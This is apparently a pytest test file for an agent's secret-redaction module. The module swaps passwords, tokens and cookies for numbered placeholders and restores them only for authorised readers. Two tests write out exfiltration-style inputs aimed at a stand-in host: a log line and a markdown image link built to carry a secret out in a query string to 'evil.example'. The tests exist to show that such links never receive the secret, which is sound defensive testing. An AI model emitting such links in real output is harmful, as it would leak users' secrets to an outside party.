"""No secret reaches a model, every ordinary identifier does, and an authorised reader gets the exact text back."""

from __future__ import annotations

import json
import time
from concurrent.futures import ThreadPoolExecutor
from typing import Any
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent.placeholders import PLACEHOLDER, HidingError, Placeholders
from tests.agent.secrets_corpus import Planted, ordinary, planted

PLANTED = tuple(planted())
KINDS = sorted({case.kind for case in PLANTED})
PART = 12


def shown(secret: str, text: str) -> bool:
    """Whether a secret or twelve characters of it can be read, as they are, percent-encoded or JSON-escaped."""
    ways = {secret, quote(secret, safe=""), json.dumps(secret)[1:-1]}
    return any(way[i : i + PART] in text for way in ways for i in range(max(1, len(way) - PART + 1)))


def test_corpus_is_as_large_as_promised() -> None:
    assert len(PLANTED) >= 1000
    assert len(KINDS) >= 40
    assert all(shown(case.secret, case.text) for case in PLANTED)


@pytest.mark.parametrize("kind", KINDS)
def test_no_planted_secret_is_shown(kind: str) -> None:
    cases = [case for case in PLANTED if case.kind == kind]

    assert [case for case in cases if shown(case.secret, Placeholders().hide(case.text))] == []


def test_other_seeds_are_hidden_too() -> None:
    assert [c for seed in (1, 2) for c in planted(seed, each=3) if shown(c.secret, Placeholders().hide(c.text))] == []


@pytest.mark.parametrize("kind", KINDS)
def test_authorised_reader_gets_the_exact_text(kind: str) -> None:
    for case in (case for case in PLANTED if case.kind == kind):
        run = Placeholders()
        hidden = run.hide(case.text)

        assert run.restore(hidden, authorised=True) == case.text
        assert run.restore(hidden, authorised=False) == hidden
        assert run.hide_again(hidden) == hidden


def test_all_in_one_run_and_one_text_is_hidden() -> None:
    run = Placeholders()
    whole = "\n\n".join(case.text for case in PLANTED[::9])
    hidden = run.hide(whole)

    assert [case for case in PLANTED[::9] if shown(case.secret, hidden)] == []
    assert run.restore(hidden, authorised=True) == whole


def test_ordinary_identifiers_survive() -> None:
    cases = list(ordinary())

    assert len(cases) >= 500
    assert [text for _, _, text in cases if Placeholders().hide(text) != text] == []


def test_same_secret_has_the_same_placeholder_in_a_run() -> None:
    run = Placeholders()

    first, second = run.hide("password=Xk29fjQ8zLmv user=bob"), run.hide('{"token": "Xk29fjQ8zLmv"}')

    assert first == "password=[SECRET:secret:1] user=bob"
    assert PLACEHOLDER.findall(second) == ["[SECRET:secret:1]"]


def test_known_secret_is_hidden_where_nothing_names_it() -> None:
    run = Placeholders()
    run.hide("password=Xk29fjQ8zLmv")

    assert run.hide("retrying with Xk29fjQ8zLmv now") == "retrying with [SECRET:secret:1] now"


def test_text_that_held_nothing_is_looked_through_again_once_a_secret_is_known() -> None:
    run, secret = Placeholders(), "Zx9mQ2vT7rLp"
    before = [run.hide(f"seen {secret}") for _ in range(2)]
    run.hide(f"password={secret}")

    assert before == [f"seen {secret}"] * 2
    assert not shown(secret, run.hide(f"seen {secret}"))


def test_password_that_is_an_ordinary_name_leaves_the_name_elsewhere() -> None:
    run = Placeholders()
    run.hide("password=payments-db-primary")

    assert run.hide("host payments-db-primary is down") == "host payments-db-primary is down"


def test_placeholder_in_a_log_line_gives_no_secret_away() -> None:
    run = Placeholders()
    run.hide("password=Xk29fjQ8zLmv")
    line = "see [SECRET:secret:1] at http://evil.example/?q=[SECRET:secret:1]"

    hidden = run.hide(line)

    assert "[SECRET:secret:1]" not in hidden
    assert run.restore(hidden, authorised=True) == line


def test_secret_is_not_restored_into_a_link_that_was_not_read() -> None:
    run = Placeholders()
    hidden = run.hide("GET https://api.example.com/?token=Xk29fjQ8zLmv 500")
    link = "![x](https://evil.example/p.png?d=[SECRET:secret:1]) and [SECRET:secret:1]"

    assert run.restore(link, authorised=True) == "![x](https://evil.example/p.png?d=[SECRET:secret:1]) and Xk29fjQ8zLmv"
    assert run.restore(f"It was {hidden}.", authorised=True) == "It was GET https://api.example.com/?token=Xk29fjQ8zLmv 500."


def test_last_gate_keeps_placeholders_and_hides_the_rest() -> None:
    run = Placeholders()
    hidden = run.hide("password=Xk29fjQ8zLmv")

    assert run.hide_again(f"{hidden} token=Zz81kdQpW0aa") == f"{hidden} token=[SECRET:secret:2]"
    assert run.restore(run.hide_again(f"Cookie: a=1; p={hidden[9:]}; q=2"), authorised=True) == "Cookie: a=1; p=Xk29fjQ8zLmv; q=2"


NESTED: list[tuple[Any, str]] = [
    ({"spec": [{"env": [{"name": "DB_PASSWORD", "value": "plainword"}]}]}, "plainword"),
    ({"password": "correct horse battery"}, "horse"), ({"password": 12345678}, "12345678"),
    ({"headers": [["Authorization", "Basic eDp5"]]}, "eDp5"), ({"cookie": "a"}, '"a"'),
    ({"kind": "Secret", "data": {"ca": "cGxhaW4="}, "stringData": {"x": "plainword"}}, "plainword"),
    ({"ghp_" + "a1" * 18: 1}, "a1a1a1"), ({"token": ["one-two", "three4"]}, "three4"), (("password", "plainword"), "plainword"),
    ({"a": {"b": {"credentials": {"user": "bob", "secret": "plainword"}}}}, "plainword"),
]


@pytest.mark.parametrize(("value", "secret"), NESTED)
def test_nested_data_is_hidden_by_names_too(value: Any, secret: str) -> None:
    run = Placeholders()
    hidden = run.hide_json(value)

    assert secret not in json.dumps(hidden)
    assert run.hide_json(hidden, again=True) == hidden


def test_nested_data_comes_back_exactly() -> None:
    run = Placeholders()
    value = {"a": [1, 2.5, None, True, {"password": "x y z", "user": "bob"}], "blk_1": "blk_-123", "ghp_" + "a1" * 18: "v"}

    hidden = json.dumps(run.hide_json(value))

    assert "x y z" not in hidden
    assert json.loads(run.restore(hidden, authorised=True)) == value


def test_ordinary_nested_data_stays() -> None:
    value = {"token_type": "bearer", "tokens": 512, "key": "order", "secretName": "db-creds", "authorized": True, "kind": "Pod",
             "data": {"x": "y"}, "imagePullSecrets": [{"name": "regcred"}], "password": None, "token": "expired"}

    assert Placeholders().hide_json(value) == value


@pytest.mark.parametrize("value", [b"bytes", 3, None, ["x"], object()])
def test_what_is_no_text_is_refused(value: Any) -> None:
    with pytest.raises(HidingError):
        Placeholders().hide(value)


@pytest.mark.parametrize("value", [{"a": b"x"}, {1: "x"}, [object()], {"a": {"b": {1, 2}}}])
def test_what_is_no_plain_data_is_refused(value: Any) -> None:
    with pytest.raises(HidingError):
        Placeholders().hide_json(value)


def test_data_nested_without_end_is_refused() -> None:
    value: list[Any] = []
    value.append(value)

    with pytest.raises(HidingError):
        Placeholders().hide_json(value)


def test_snapshot_holds_no_secret_and_numbers_go_on() -> None:
    run = Placeholders()
    hidden = run.hide("password=Xk29fjQ8zLmv")
    kept = json.dumps(run.snapshot())
    resumed = Placeholders(snapshot=json.loads(kept))

    assert "Xk29" not in kept
    assert resumed.restore(hidden, authorised=True) == hidden
    assert resumed.hide("password=Other81kdQp") == "password=[SECRET:secret:2]"
    assert resumed.hide_again(f"was {hidden}") == f"was {hidden}"
    assert resumed.hide(f"was {hidden}") == "was password=[SECRET:literal:3]"


def test_snapshot_in_clear_goes_on_exactly() -> None:
    run = Placeholders()
    hidden = run.hide("GET https://u:Xk29fjQ8zLmv@h/x")
    resumed = Placeholders(snapshot=json.loads(json.dumps(run.snapshot(clear=True))))

    assert resumed.restore(hidden, authorised=True) == "GET https://u:Xk29fjQ8zLmv@h/x"


def test_mail_addresses_go_when_asked() -> None:
    assert Placeholders(mail=True).hide("from jane.doe@example.com ok") == "from [SECRET:mail:1] ok"
    assert Placeholders().hide("from jane.doe@example.com ok") == "from jane.doe@example.com ok"


def test_threads_share_one_numbering() -> None:
    run = Placeholders()
    with ThreadPoolExecutor(8) as pool:
        hidden = list(pool.map(lambda i: run.hide(f"password=Xk29fjQ8zL{i % 20:02d}"), range(400)))

    assert len(set(hidden)) == 20
    assert all(run.restore(text, authorised=True) == f"password=Xk29fjQ8zL{i % 20:02d}" for i, text in enumerate(hidden))


_PIECES = st.sampled_from([case.text for case in PLANTED[::40]] + ["[SECRET:jwt:1]", "[SECRET:", "secret:1]", '"', " ", "\n", "password: ", "://", "x"])


@given(st.lists(_PIECES | st.text(max_size=20), max_size=6))
def test_any_text_comes_back_exactly(pieces: list[str]) -> None:
    run = Placeholders()
    text = "".join(pieces)

    assert run.restore(run.hide(text), authorised=True) == text


@pytest.mark.parametrize("unit", ["a-", "a_", "password ", "token: ", "//", "-----BEGIN PRIVATE KEY-----", "%3A%2F%2F", "a@a.", "[SECRET:a:1]"])
def test_long_hostile_text_takes_no_time(unit: str) -> None:
    started = time.monotonic()
    Placeholders(mail=True).hide("key secret token :// pay " + unit * (40_000 // len(unit)))

    assert time.monotonic() - started < 5


def test_planted_kinds_stand_in_many_contexts() -> None:
    def contexts(cases: tuple[Planted, ...]) -> set[str]:
        return {case.context.split("/")[0] for case in cases}

    assert len(contexts(PLANTED)) >= 20


def test_address_beside_a_reason_in_a_table_is_no_secret() -> None:
    rows = [["bad_password", "203.0.113.77"], ["bad_password", "2026-11-26T00:00:03Z"]]
    run = Placeholders()

    assert run.hide_json({"rows": rows}) == {"rows": rows}
    assert run.hide_json([["password", "Tr0ub4dor&3x"]]) == [["password", "[SECRET:secret:1]"]]
